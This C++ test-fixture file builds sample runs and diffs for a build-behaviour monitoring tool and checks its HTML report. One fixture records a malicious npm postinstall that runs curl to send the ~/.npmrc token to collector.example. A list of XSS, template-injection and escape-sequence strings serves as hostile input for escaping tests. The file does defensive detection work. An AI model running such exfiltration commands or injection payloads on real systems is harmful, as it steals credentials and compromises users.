#include "tests/html/sample.hpp"
#include "tests/support/behavior.hpp"

#include <algorithm>
#include <utility>

namespace buildprint {
namespace {

using Texts = std::vector<std::string>; ///< of a lineage

Texts operator+(Texts lineage, const std::string &program) {
  lineage.push_back(program);
  return lineage;
}

class RunBuilder {
 public:
  void add(Behavior behavior, std::string raw, std::vector<Rewrite> rewrites, std::uint64_t from_ms,
           std::uint64_t to_ms, std::uint64_t count) {
    Evidence evidence{{std::move(raw)}, std::move(rewrites), count, from_ms * 1'000'000, to_ms * 1'000'000};
    told_.emplace_back(std::move(behavior), std::move(evidence));
  }
  void exec(const Texts &lineage, std::uint64_t from_ms, std::uint64_t to_ms, std::uint64_t count = 1,
            const std::string &user = "builder", const std::string &package = "") {
    const auto &program = lineage.back();
    add(make_behavior(Kind::exec, user, lineage, "", 3, false, package),
        program + " --color=never -o build/out.o",
        {{"R3", program + " --color=never -o build/out.o", program}}, from_ms, to_ms, count);
  }
  void does(Kind kind, const Texts &lineage, const std::string &object, const std::string &raw,
            std::vector<Rewrite> rewrites, std::uint64_t from_ms, std::uint64_t to_ms,
            std::uint64_t count = 1) {
    add(make_behavior(kind, "builder", lineage, object, 3, false, ""), raw, std::move(rewrites), from_ms,
        to_ms, count);
  }
  std::size_t size() const { return told_.size(); }

  CanonicalRun finish() {
    std::sort(told_.begin(), told_.end(),
              [](const auto &a, const auto &b) { return key_less(a.first, b.first); });
    CanonicalRun run;
    for (auto &[behavior, evidence] : told_) {
      if (!run.fingerprint.behaviors.empty() && same_key(run.fingerprint.behaviors.back(), behavior))
        continue;
      run.fingerprint.behaviors.push_back(std::move(behavior));
      run.evidence.push_back(std::move(evidence));
    }
    run.fingerprint.name = "unit-tests";
    run.fingerprint.rules = "1-5f0c9a1e";
    run.fingerprint.runs = 3;
    run.fingerprint.labels = {{"arch", "x86_64"}, {"os", "debian-12"}};
    run.fingerprint.attributes = {{"/usr/bin/gcc", "version", "12.2.0"},
                                  {"npm:left-pad", "version", "1.3.0"}};
    run.fingerprint.coverage_gaps = {"daemon:unix:/run/docker.sock ran before: what it does is not seen"};
    return run;
  }

 private:
  std::vector<std::pair<Behavior, Evidence>> told_;
};

void compile(RunBuilder &run, const Texts &make, std::size_t units) {
  const Texts shell = make + "/usr/bin/sh -c";
  run.exec(shell, 400, 21'000, 214);
  const Texts gcc = shell + "/usr/bin/gcc";
  run.exec(gcc, 420, 20'900, 112);
  run.exec(gcc + "/usr/lib/gcc/<triple>/<v>/cc1", 430, 20'600, 112);
  run.exec(gcc + "/usr/bin/as", 470, 20'850, 112);
  run.does(Kind::write, gcc + "/usr/bin/as", "$TMP", "/tmp/ccJ8s2kQ.o",
           {{"R1", "/tmp/ccJ8s2kQ.o", "$TMP/ccJ8s2kQ.o"},
            {"R4", "$TMP/ccJ8s2kQ.o", "$TMP/cc<rand>.o"},
            {"R13", "$TMP/cc<rand>.o", "$TMP"}},
           480, 20'880, 112);
  const Texts link = gcc + "/usr/lib/gcc/<triple>/<v>/collect2";
  run.exec(link, 9'000, 21'000, 6);
  run.exec(link + "/usr/bin/ld", 9'010, 21'100, 6);
  run.does(Kind::write, link + "/usr/bin/ld", "$WS", "/home/ann/src/shop/build/shop",
           {{"R1", "/home/ann/src/shop/build/shop", "$WS/build/shop"}, {"R13", "$WS/build/shop", "$WS"}},
           9'100, 21'200, 6);
  run.exec(shell + "/usr/bin/mkdir", 410, 430, 3);
  run.exec(shell + "/usr/bin/sed", 600, 640, 2);
  for (std::size_t i = 0; i < units; ++i) {
    const Texts generator = shell + ("/usr/bin/python3 $WS/tools/generate_" + std::to_string(i) + ".py");
    const auto at = 700 + i * 19'000 / (units + 1);
    run.exec(generator, at, at + 60);
    run.does(Kind::write, generator, "tracked:$WS/src/generated/table_" + std::to_string(i) + ".c",
             "/home/ann/src/shop/src/generated/table_" + std::to_string(i) + ".c",
             {{"R1", "/home/ann/src/shop/src/generated", "$WS/src/generated"}}, at + 20, at + 50);
  }
}

void install_packages(RunBuilder &run, const Texts &shell, std::size_t packages) {
  const Texts npm = shell + "/usr/bin/node /usr/bin/npm install";
  run.exec(npm, 21'400, 21'400);
  run.does(Kind::resolve, npm, "registry.example", "registry.example AAAA", {}, 21'700, 21'900, 2);
  run.does(Kind::connect, npm, "registry.example:443/tcp", "203.0.113.20:443",
           {{"R9", "203.0.113.20:443", "registry.example:443"}}, 21'760, 26'300, 12);
  run.does(Kind::connect, npm, "resolver:53", "192.0.2.53:53", {{"R9", "192.0.2.53:53", "resolver:53"}},
           21'690, 21'900, 4);
  run.does(Kind::write, npm, "$CACHE/npm", "/home/ann/.npm/_cacache/tmp/9f1c2d",
           {{"R1", "/home/ann/.npm", "$CACHE/npm"}}, 21'800, 26'400, 214);
  for (std::size_t i = 0; i < packages; ++i) {
    const std::string package = "npm:native-" + std::to_string(i) + " install";
    const auto at = 26'500 + i * 9'000 / (packages + 1);
    const Texts script = npm + "/usr/bin/sh -c" +
                         ("/usr/bin/node $WS/node_modules/native-" + std::to_string(i) + "/install.js");
    run.exec(script, at, at + 300, 1, "builder", package);
    run.does(
        Kind::connect, script, "prebuilt-" + std::to_string(i % 37) + ".example:443/tcp",
        "203.0.113." + std::to_string(i % 200) + ":443",
        {{"R9", "203.0.113." + std::to_string(i % 200), "prebuilt-" + std::to_string(i % 37) + ".example"}},
        at + 60, at + 180);
    run.does(Kind::read, script, "secret:npm ($HOME/.npmrc)", "/home/ann/.npmrc",
             {{"R1", "/home/ann/.npmrc", "$HOME/.npmrc"}}, at + 10, at + 11);
  }
  run.exec(npm + "/usr/bin/sh -c", 26'500, 35'900, packages);
}

void test(RunBuilder &run, const Texts &shell, std::size_t cases) {
  const Texts runner = shell + "/usr/bin/python3 -m pytest";
  run.exec(runner, 36'000, 36'000);
  run.does(Kind::listen, runner, "loopback:*/tcp", "127.0.0.1:41233",
           {{"R10", "127.0.0.1:41233", "loopback:*"}}, 36'600, 47'000, 31);
  for (std::size_t i = 0; i < cases; ++i) {
    const auto at = 36'200 + i * 11'000 / (cases + 1);
    const Texts server = runner + ("$WS/build/tests/case_" + std::to_string(i));
    run.exec(server, at, at + 90, 2);
    run.does(Kind::connect, server, "loopback:(" + runner.back() + ")/tcp", "127.0.0.1:41233",
             {{"R10", "127.0.0.1:41233", "loopback:(/usr/bin/python3 -m pytest)"}}, at + 10, at + 80, 4);
  }
  const Texts sudo = shell + "/usr/bin/sudo";
  run.exec(sudo, 47'300, 47'300);
  run.does(Kind::become, sudo, "builder->root", "setresuid 1000 -> 0", {{"R2", "1000", "builder"}}, 47'305,
           47'305);
  run.exec(sudo + "/usr/bin/apt-get install", 47'320, 47'320, 1, "root");
  run.exec(sudo + "/usr/bin/apt-get install" + "/usr/bin/dpkg", 47'900, 48'300, 4, "root");
}

NewBehavior fresh(Kind kind, Texts lineage, std::string object, std::string raw,
                  std::vector<Rewrite> rewrites = {}, int novelty = 3) {
  return {make_behavior(kind, "builder", std::move(lineage), std::move(object), 1, false, ""),
          novelty,
          "1/1",
          {{std::move(raw)}, std::move(rewrites), 1, 27'000'000'000, 27'000'000'000}};
}

Finding theft(const Texts &npm) {
  const Texts script = npm + "/usr/bin/sh -c", curl = script + "/usr/bin/curl";
  Finding finding;
  finding.id = "7c2a91d04be8";
  finding.score = 21;
  finding.level = Level::error;
  finding.title =
      "left-pad's postinstall runs curl, which reads the npm token and connects to collector.example:443";
  finding.why = {{9, "a secret is read and a new connection made: the sum counts double"},
                 {5, "secret:npm is read by a program that never read it"},
                 {4, "collector.example was never seen in this build"},
                 {3, "curl never ran below npm install"}};
  finding.capabilities = {"first network connection of the npm lineage"};
  finding.techniques = {"T1195.001", "T1552.001", "T1041"};
  finding.package = Package{"npm", "left-pad", "1.3.1", "postinstall", "1.3.0"};
  finding.where = Place{"package-lock.json", 4120};
  finding.behaviors = {fresh(Kind::exec, curl, "",
                             "curl -fsSL --data-binary @/home/ann/.npmrc https://collector.example/u",
                             {{"R3", "/usr/bin/curl -fsSL --data-binary …", "/usr/bin/curl"}}, 2),
                       fresh(Kind::read, curl, "secret:npm ($HOME/.npmrc)", "/home/ann/.npmrc",
                             {{"R1", "/home/ann/.npmrc", "$HOME/.npmrc"}}),
                       fresh(Kind::connect, curl, "collector.example:443/tcp", "203.0.113.66:443",
                             {{"R9", "203.0.113.66:443", "collector.example:443"}}),
                       fresh(Kind::resolve, curl, "collector.example", "collector.example A")};
  for (int i = 0; i < 3; ++i)
    finding.more.push_back(fresh(Kind::resolve, curl, std::to_string(i) + ".part.collector.example", "TXT"));
  return finding;
}

Finding new_tool(const Texts &shell) {
  const Texts strip = shell + "/usr/bin/strip";
  Finding finding;
  finding.id = "b81e55f0c4a2";
  finding.score = 3;
  finding.level = Level::warning;
  finding.title = "make runs strip";
  finding.why = {{3, "strip was never seen in this build"}};
  finding.where = Place{"Makefile", 41};
  finding.behaviors = {fresh(Kind::exec, strip, "", "strip build/shop",
                             {{"R3", "/usr/bin/strip build/shop", "/usr/bin/strip"}})};
  return finding;
}

} // namespace

CanonicalRun sample_run(std::size_t behaviors) {
  RunBuilder run;
  const Texts make{"/usr/bin/make"};
  run.exec(make, 0, 0);
  const std::size_t units = behaviors / 8 + 1;
  compile(run, make, units);
  install_packages(run, make + "/usr/bin/sh -c", units);
  for (std::size_t cases = 1; run.size() < behaviors + 6 || cases == 1; cases += units)
    test(run, make + "/usr/bin/sh -c", cases);
  return run.finish();
}

SampleDiff sample_diff(std::size_t behaviors) {
  SampleDiff out;
  const CanonicalRun run = sample_run(behaviors);
  out.base = run.fingerprint;
  out.head = out.base;
  out.head.runs = 1;
  const Texts shell{"/usr/bin/make", "/usr/bin/sh -c"};
  auto &diff = out.diff;
  diff.verdict = Verdict::new_behavior;
  diff.base = {"unit-tests", "git:main:.buildprint/unit-tests.json", out.base.digest(), 3,
               out.base.behaviors.size()};
  diff.findings = {theft(shell + "/usr/bin/node /usr/bin/npm install"), new_tool(shell)};
  for (const auto &finding : diff.findings) {
    for (const auto &one : finding.behaviors) out.head.behaviors.push_back(one.behavior);
    for (const auto &one : finding.more) out.head.behaviors.push_back(one.behavior);
  }
  const Behavior gone = make_behavior(Kind::exec, "builder", shell + "/usr/bin/tar", "", 3, false, "");
  out.base.behaviors.push_back(gone);
  diff.absent = {gone};
  const Behavior moved =
      make_behavior(Kind::exec, "builder", shell + "/usr/bin/ninja" + "/usr/bin/gcc" + "/usr/bin/as");
  diff.moved = {{moved, parse_lineage(shell + "/usr/bin/gcc" + "/usr/bin/as")}};
  out.head.behaviors.push_back(moved);
  const auto allowed =
      fresh(Kind::connect, shell + "/usr/bin/git fetch", "git.example:443/tcp", "203.0.113.30:443");
  diff.accepted = {{allowed, "the mirror moved to a host of its own", "ann", "2027-01-31", true}};
  out.head.behaviors.push_back(allowed.behavior);
  diff.changed = {{"version", "gcc 12.2.0 → 12.3.0", {"/usr/bin/gcc", "/usr/bin/as"}},
                  {"renamed", "tools/gen.py is now tools/generate_0.py", {}}};
  diff.notices = {"1 acceptance was never used: 3f00a1 (ann, \"old mirror\")"};
  std::sort(out.head.behaviors.begin(), out.head.behaviors.end(), key_less);
  std::sort(out.base.behaviors.begin(), out.base.behaviors.end(), key_less);
  for (const auto &behavior : out.head.behaviors) {
    const auto known = std::find_if(run.fingerprint.behaviors.begin(), run.fingerprint.behaviors.end(),
                                    [&](const Behavior &one) { return same_key(one, behavior); });
    const auto index = known - run.fingerprint.behaviors.begin();
    out.evidence.push_back(known == run.fingerprint.behaviors.end()
                               ? Evidence{}
                               : run.evidence[static_cast<std::size_t>(index)]);
  }
  diff.head = {"unit-tests", ".buildprint/unit-tests.json.new", out.head.digest(), 1,
               out.head.behaviors.size()};
  return out;
}

const std::vector<std::string> &hostile_names() {
  static const std::vector<std::string> names{
      "</script><script>document.documentElement.dataset.broken = 'script'</script>",
      "<img src=x onerror=\"document.documentElement.dataset.broken = 'img'\">",
      "<!--<script>document.documentElement.dataset.broken = 'comment'//",
      "--><b id=escaped>bold</b>",
      "{{constructor.constructor('document.documentElement.dataset.broken = 1')()}}",
      "javascript:document.documentElement.dataset.broken=1",
      "__proto__",
      "' onfocus=document.documentElement.dataset.broken=1 autofocus x='",
      "evil\xe2\x80\xae"
      "txt.exe\xe2\x80\xac\xe2\x81\xa6\xe2\x80\x8f",
      "invalid\xff\xfe\xc3(utf8",
      "\x1b[31mred\x1b[0m\x07\r\n::set-output name=x::y ##[error]no",
      "@DATA@ ${document.title} %3Cscript%3E &lt;script&gt; &#60;",
      "zero\xe2\x80\x8bwidth\xef\xbb\xbf",
      std::string(1'000'000, 'a') + "</script>",
  };
  return names;
}

CanonicalRun hostile_run() {
  RunBuilder run;
  const auto &names = hostile_names();
  for (const auto &name : names) {
    const Texts lineage{"/usr/bin/make", name};
    run.add(make_behavior(Kind::exec, "builder", lineage, "", 1, false, name), name, {{"R1", name, name}}, 5,
            9, 1);
    run.add(make_behavior(Kind::connect, "other:" + name, lineage, name + ":443/tcp", 1, false, ""), name,
            {{name, name, name}}, 6, 8, 1);
    run.add(make_behavior(Kind::write, "root", lineage, name, 1, false, ""), name, {}, 7, 8, 1);
  }
  CanonicalRun out = run.finish();
  out.fingerprint.name = names.front();
  out.fingerprint.labels = {{names[1], names[2]}};
  out.fingerprint.complete = false;
  out.fingerprint.incomplete_because = names;
  out.fingerprint.coverage_gaps = names;
  return out;
}

Diff hostile_diff() {
  Diff diff;
  diff.verdict = Verdict::new_behavior;
  const auto &names = hostile_names();
  diff.because = names;
  diff.notices = names;
  diff.head = {names[0], names[1], names[2], 1, names.size()};
  diff.base = diff.head;
  for (const auto &name : names) {
    Finding finding;
    finding.id = name;
    finding.score = 9;
    finding.level = Level::error;
    finding.title = name;
    finding.why = {{3, name}};
    finding.capabilities = finding.techniques = {name};
    finding.package = Package{name, name, name, name, name};
    finding.where = Place{name, 3};
    finding.behaviors = {fresh(Kind::exec, {name, name + "x"}, "", name, {{"R1", name, name}}),
                         fresh(Kind::connect, {name, name + "x"}, name, name)};
    diff.findings.push_back(finding);
    diff.changed.push_back({name, name, {name}});
    diff.moved.push_back({make_behavior(Kind::exec, "root", {"/usr/bin/make", name, name}, "", 1, false, ""),
                          {Program::parse(name)}});
    diff.absent.push_back(
        make_behavior(Kind::resolve, "builder", {"/usr/bin/make", name}, name, 1, false, ""));
    diff.accepted.push_back({fresh(Kind::read, {"/usr/bin/make", name}, name, name), name, name, name, true});
  }
  return diff;
}

} // namespace buildprint
